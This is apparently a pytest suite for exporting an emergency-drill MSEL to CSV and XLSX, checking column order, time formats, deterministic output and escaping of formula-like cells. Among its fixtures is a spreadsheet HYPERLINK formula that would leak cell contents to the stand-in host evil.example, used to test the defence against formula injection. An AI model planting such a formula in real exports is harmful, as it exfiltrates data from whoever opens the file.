"""The MSEL export: every column in order, times as T+HH:MM:SS, triggers and delays as flow mappings, every cell
escaped against formula injection in CSV and XLSX alike, and the same bytes for the same scenario."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import openpyxl
import pytest

from scenarios import Scenario, load_scenario
from scenarios.msel.cells import unescape
from scenarios.msel.export import CellError, csv_bytes, msel_rows, xlsx_bytes

HEADERS = [
    "Inject #",
    "Move",
    "Scenario Time",
    "Inject Type",
    "Delivery Method",
    "From",
    "To",
    "Inject",
    "Expected Action",
    "Objective",
    "Core Capability",
    "Critical Task",
    "Responsible Controller",
    "Notes",
    "Status",
    "Trigger",
    "After",
    "Fact",
    "Contingency",
    "Source",
]
"""The 20 columns as the issue and the doctrine order them, written out by hand."""

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
HOSTILE = {
    "text": HYPERLINK,
    "from": "+49 30 1234567",
    "expected_action": "-2+3",
    "notes": "@SUM(A1:A9)",
    "controller": "\tTabbed controller",
    "core_capability": "\rCarriage return",
    "move": "'=already quoted",
}
"""Texts a spreadsheet would run as formulas (or that start like one), by the inject field that holds them."""

q = json.dumps  # a JSON string is a YAML double-quoted scalar

DRILL = f"""\
schema_version: 2
id: msel-drill
title: MSEL drill
summary: Two stakeholders, one phone line, four injects.
learning_objectives: [Call the police.]
clock: {{start: "2026-01-01T10:00:00", time_zone: Europe/Berlin, duration: 2h}}
facts:
  - {{id: attack, description: Shots at the hall.}}
sites:
  - {{id: hall, name: Hall, kind: other, occupancy: 10}}
stakeholders:
  - id: guard
    name: Guard
    kind: site_staff
    site: hall
    playbook:
      - id: call
        on: {{fact: attack}}
        do: [{{action: notify, to: police, fact: attack}}]
  - {{id: police, name: Police, kind: police_control}}
channels:
  - {{id: phone, from: guard, to: police, latency: 10s}}
threat:
  description: Abstract.
  phases:
    - {{id: attack, kind: attack, site: hall, duration: 10m, observed_by: [{{stakeholder: guard, fact: attack}}]}}
injects:
  - id: inj-01
    at: 1h5m30s
    to: guard
    text: {q(HOSTILE["text"])}
    from: {q(HOSTILE["from"])}
    expected_action: {q(HOSTILE["expected_action"])}
    notes: {q(HOSTILE["notes"])}
    controller: {q(HOSTILE["controller"])}
    core_capability: {q(HOSTILE["core_capability"])}
    move: {q(HOSTILE["move"])}
    objective: alert
  - id: inj-02
    trigger: {{fact: attack}}
    after: {{dist: uniform, low: 30s, high: 1m30s}}
    to: police
    text: "The guard's call, line one.\\nLine two."
    fact: attack
    inject_type: media
    delivery_method: phone
  - id: inj-03
    trigger: {{event: threat_phase_started, phase: attack}}
    after: 45s
    to: police
    text: A patrol reports.
    source: "[press] 10:05"
  - {{id: inj-04, contingency: true, to: guard, text: Only when asked., at: 12.5s}}
  - {{id: inj-05, contingency: true, to: guard, text: Fired by hand.}}
milestones:
  - {{id: attack-starts, name: Attack begins, when: {{event: threat_phase_started, phase: attack}}}}
  - {{id: police-know, name: Police know, when: {{fact: attack, stakeholder: police}}}}
objectives:
  - id: alert
    name: Alert the police
    core_capability: Operational Communications
    since: attack-starts
    until: police-know
    thresholds: {{performed: 3m, some_challenges: 5m, major_challenges: 10m}}
"""


@pytest.fixture(scope="module")
def drill(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    """The drill above, loaded by the scenario loader."""
    path = tmp_path_factory.mktemp("msel") / "drill.yaml"
    path.write_text(DRILL, encoding="utf-8")
    return load_scenario(path)


def cells_by_header(rows: list[list[str]]) -> list[dict[str, str]]:
    """Each inject row as a mapping from header to cell."""
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def test_the_header_row_is_the_twenty_columns_in_the_doctrine_s_order(drill: Scenario) -> None:
    rows = msel_rows(drill)
    assert rows[0] == HEADERS
    assert all(len(row) == 20 for row in rows)


def test_there_is_one_row_per_inject_in_the_scenario_s_order(drill: Scenario) -> None:
    assert [row[0] for row in msel_rows(drill)[1:]] == ["inj-01", "inj-02", "inj-03", "inj-04", "inj-05"]


def test_times_are_written_as_t_plus_hours_minutes_seconds_and_empty_without_one(drill: Scenario) -> None:
    times = [row["Scenario Time"] for row in cells_by_header(msel_rows(drill))]
    assert times == ["T+01:05:30", "", "", "T+00:00:12.5", ""]


def test_a_trigger_and_a_distribution_are_written_as_flow_mappings(drill: Scenario) -> None:
    rows = cells_by_header(msel_rows(drill))
    assert [row["Trigger"] for row in rows] == [
        "",
        "{fact: attack}",
        "{event: threat_phase_started, phase: attack}",
        "",
        "",
    ]
    assert [row["After"] for row in rows] == ["", "{dist: uniform, low: 30s, high: 1m30s}", "45s", "", ""]


def test_the_other_columns_hold_the_inject_s_fields(drill: Scenario) -> None:
    second, third, fourth, _ = cells_by_header(msel_rows(drill))[1:]
    assert second["Inject"] == "The guard's call, line one.\nLine two."
    assert (second["Inject Type"], second["Delivery Method"], second["Fact"]) == ("media", "phone", "attack")
    assert (third["Inject Type"], third["Delivery Method"], third["To"]) == ("event", "verbal", "police")
    assert third["Source"] == "[press] 10:05"
    assert (fourth["Contingency"], third["Contingency"]) == ("yes", "")
    assert all(row["Status"] == "" for row in cells_by_header(msel_rows(drill)))


def test_every_cell_that_would_start_a_formula_gets_a_leading_quote(drill: Scenario) -> None:
    first = cells_by_header(msel_rows(drill))[0]
    assert first["Inject"] == "'" + HYPERLINK
    assert first["From"] == "'+49 30 1234567"
    assert first["Expected Action"] == "'-2+3"
    assert first["Notes"] == "'@SUM(A1:A9)"
    assert first["Responsible Controller"] == "'\tTabbed controller"
    assert first["Core Capability"] == "'\rCarriage return"
    assert first["Move"] == "''=already quoted"  # one more quote, so that unescaping gives back the text written
    assert first["Objective"] == "alert"


def test_the_csv_has_a_byte_order_mark_crlf_line_ends_and_reads_back_as_the_escaped_cells(drill: Scenario) -> None:
    rows = msel_rows(drill)
    data = csv_bytes(rows)
    assert data.startswith(b"\xef\xbb\xbfInject #,Move,Scenario Time,")
    assert data.endswith(b"\r\n")
    assert data.split(b"\r\n")[0].count(b",") == 19
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read == rows
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in read for cell in row)


def test_the_xlsx_holds_the_same_cells_and_none_is_a_formula(drill: Scenario, tmp_path: Path) -> None:
    rows = msel_rows(drill)
    path = tmp_path / "msel.xlsx"
    path.write_bytes(xlsx_bytes(rows, title=drill.title))
    workbook = openpyxl.load_workbook(path, data_only=False)
    assert workbook.sheetnames == ["MSEL"]
    sheet = workbook["MSEL"]
    read = [[cell.value for cell in row] for row in sheet.iter_rows(min_row=1, max_row=len(rows), max_col=20)]
    # the workbook holds the text itself; an empty cell is left out, so reads as None
    assert read == [[unescape(cell) or None for cell in row] for row in rows]
    written = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(written) == sum(1 for row in rows for cell in row if cell)
    assert {cell.data_type for cell in written} == {"s"}
    assert sheet["H2"].value == HYPERLINK  # the inject text, and its carriage return kept in the next check
    assert sheet["K2"].value == "\rCarriage return"


def test_the_xlsx_shows_no_apostrophe_and_marks_the_cells_that_look_like_formulas_as_text(drill: Scenario) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(msel_rows(drill), title="t")))["MSEL"]
    # B2 Move, F2 From, H2 Inject, I2 Expected Action, N2 Notes look like formulas; G2 To and J2 Objective do not
    prefixed = {cell.coordinate for cell in sheet[2] if cell.quotePrefix}
    assert {"B2", "F2", "H2", "I2", "N2"} <= prefixed
    assert not {"A2", "G2", "J2"} & prefixed
    assert (sheet["B2"].value, sheet["F2"].value, sheet["N2"].value) == (
        "'=already quoted",
        "+49 30 1234567",
        "@SUM(A1:A9)",
    )


def test_the_xlsx_header_is_bold_and_frozen_and_the_text_wraps(drill: Scenario) -> None:
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(msel_rows(drill), title=drill.title)))
    sheet = workbook["MSEL"]
    assert sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1])
    assert not sheet["A2"].font.bold
    assert sheet["H3"].alignment.wrap_text
    assert workbook.properties.title == "MSEL drill"
    widths = [sheet.column_dimensions[letter].width for letter in "ABH"]
    assert len(HYPERLINK) + 2 > 60
    assert widths == [len("Inject #") + 2, len("'=already quoted") + 2, 60]  # H: the long inject text, capped


def test_the_same_rows_give_the_same_bytes_in_both_formats(drill: Scenario) -> None:
    rows = msel_rows(drill)
    assert csv_bytes(rows) == csv_bytes(msel_rows(drill))
    assert xlsx_bytes(rows, title="t") == xlsx_bytes(msel_rows(drill), title="t")
    assert xlsx_bytes(rows, title="t") != xlsx_bytes(rows, title="u")


def test_the_xlsx_bytes_do_not_depend_on_the_hash_seed() -> None:
    program = (
        "import hashlib, sys; from scenarios import load_scenario;"
        "from scenarios.msel.export import msel_rows, xlsx_bytes;"
        "s = load_scenario('multi-site-cascade');"
        "sys.stdout.write(hashlib.sha256(xlsx_bytes(msel_rows(s), title=s.title)).hexdigest())"
    )
    digests = set()
    for seed in ("1", "2"):
        environment = {**os.environ, "PYTHONHASHSEED": seed}
        result = subprocess.run(
            [sys.executable, "-c", program], capture_output=True, text=True, check=True, env=environment
        )
        digests.add(result.stdout)
    scenario = load_scenario("multi-site-cascade")
    assert digests == {hashlib.sha256(xlsx_bytes(msel_rows(scenario), title=scenario.title)).hexdigest()}


def test_flow_mappings_read_back_with_safe_load_as_the_trigger_and_delay_written() -> None:
    import yaml  # type: ignore[import-untyped]

    from scenarios import bundled_names
    from scenarios.distributions import Empirical

    checked = 0
    for name in bundled_names():
        scenario = load_scenario(name)
        for inject, row in zip(scenario.injects, cells_by_header(msel_rows(scenario)), strict=True):
            if inject.trigger is not None:
                assert yaml.safe_load(row["Trigger"]) == inject.trigger.model_dump(
                    mode="json", by_alias=True, exclude_defaults=True
                )
                checked += 1
    assert checked >= 8  # every bundled scenario has triggered injects
    odd = Empirical.model_validate({"dist": "empirical", "values": ["30s", "1m30s"], "weights": [1, 2.5]})
    cell = msel_rows(scenario.model_copy(update={"injects": [inject.model_copy(update={"after": odd})]}))[1][16]
    assert cell == "{dist: empirical, values: [30s, 1m30s], weights: [1.0, 2.5]}"
    assert yaml.safe_load(cell) == {"dist": "empirical", "values": ["30s", "1m30s"], "weights": [1.0, 2.5]}


def test_a_cell_too_long_or_not_xml_is_refused_for_xlsx_but_kept_in_csv() -> None:
    long = ["x" * 32_768]
    with pytest.raises(CellError) as raised:
        xlsx_bytes([["Inject"], long], title="t")
    assert (raised.value.row, raised.value.header) == (2, "Inject")
    assert "32,768 characters" in raised.value.message
    assert xlsx_bytes([["Inject"], ["x" * 32_767]], title="t")  # the limit itself is fine
    with pytest.raises(CellError, match="U\\+FFFF"):
        xlsx_bytes([["Inject"], ["a\uffff"]], title="t")
    assert csv_bytes([["Inject"], long]).endswith(b"x\r\n")


def test_the_xlsx_has_a_filter_print_titles_and_drop_downs_for_type_method_and_contingency(drill: Scenario) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(msel_rows(drill), title="t")))["MSEL"]
    rows = len(drill.injects) + 1
    assert sheet.auto_filter.ref == f"A1:T{rows}"  # twenty columns, A to T
    assert sheet.print_title_rows == "$1:$1"
    lists = {str(v.sqref): v.formula1 for v in sheet.data_validations.dataValidation}
    # D Inject Type, E Delivery Method, S Contingency
    assert lists == {
        "D2:D5000": '"informational,event,media,contingency"',
        "E2:E5000": '"verbal,phone,email,radio,message,handout,video,other"',
        "S2:S5000": '"yes,no"',
    }
    assert not any(v.showErrorMessage for v in sheet.data_validations.dataValidation)
